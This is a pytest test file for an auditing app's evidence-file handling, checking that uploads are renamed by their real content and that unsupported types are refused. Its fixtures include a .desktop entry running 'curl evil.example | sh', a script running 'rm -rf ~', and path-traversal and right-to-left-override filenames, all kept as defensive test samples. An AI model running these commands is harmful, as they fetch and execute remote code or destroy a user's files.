"""The evidence type rules on their own: names for the system's viewer, names fitted on adding, what is refused."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from auditor_app.errors import InputError
from auditor_app.services import evidence_types

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example | sh'\n"
ZIP = b"PK\x03\x04" + bytes(40)
HEIC = b"\x00\x00\x00\x18ftypheic" + bytes(20)


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "JPEG")
    return out.getvalue()


@pytest.mark.parametrize(("filename", "data", "opened_as"), [
    ("Lieferantenbewertung 2026.pdf", PDF, "Lieferantenbewertung 2026.pdf"),
    ("invoice.pdf.bat", PDF, "invoice_pdf.pdf"),
    ("photo.desktop", jpeg(), "photo.jpg"),
    ("invoice\u202efdp.exe", PDF, "invoice_fdp.pdf"),
    ("../../.bashrc", PDF, "_bashrc.pdf"),
    ("Прием 标签 (2).JPEG", jpeg(), "Прием 标签 (2).jpg"),
    ("", jpeg(), "evidence.jpg"),
    ("Bericht.docx", ZIP, "Bericht.docx"),
    ("IMG_0001.HEIC", HEIC, "IMG_0001.heic"),
])
def test_the_viewer_gets_a_copy_named_by_what_its_bytes_are(filename: str, data: bytes, opened_as: str) -> None:
    assert evidence_types.opener_name(data, filename) == opened_as


@pytest.mark.parametrize(("filename", "data"), [
    ("photo.desktop", DESKTOP), ("run.sh", b"#!/bin/sh\nrm -rf ~\n"), ("tool.jar", ZIP), ("x.exe", b"MZ\x90\x00"),
])
def test_anything_but_an_allowed_type_is_not_handed_to_the_viewer(filename: str, data: bytes) -> None:
    with pytest.raises(InputError, match=rf"^{filename}: not opened, its content is not a supported evidence file"):
        evidence_types.opener_name(data, filename)


@pytest.mark.parametrize(("filename", "mime", "fitted"), [
    ("IMG_0001.JPG", "image/jpeg", "IMG_0001.JPG"),
    ("Bericht v1.2", "application/pdf", "Bericht v1.2.pdf"),
    ("Waage.png", "image/jpeg", "Waage.png.jpg"),
    ("invoice.pdf.bat", "application/pdf", "invoice.pdf.bat.pdf"),
    ("scan.pdf. ", "application/pdf", "scan.pdf"),
    ("a\u202eb.pdf", "application/pdf", "ab.pdf"),
    ("...", "image/png", "evidence.png"),
])
def test_added_files_are_recorded_under_a_name_that_fits_their_type(filename: str, mime: str, fitted: str) -> None:
    assert evidence_types.fitted_name(filename, mime) == fitted
    assert evidence_types.name_problem(fitted, mime) is None
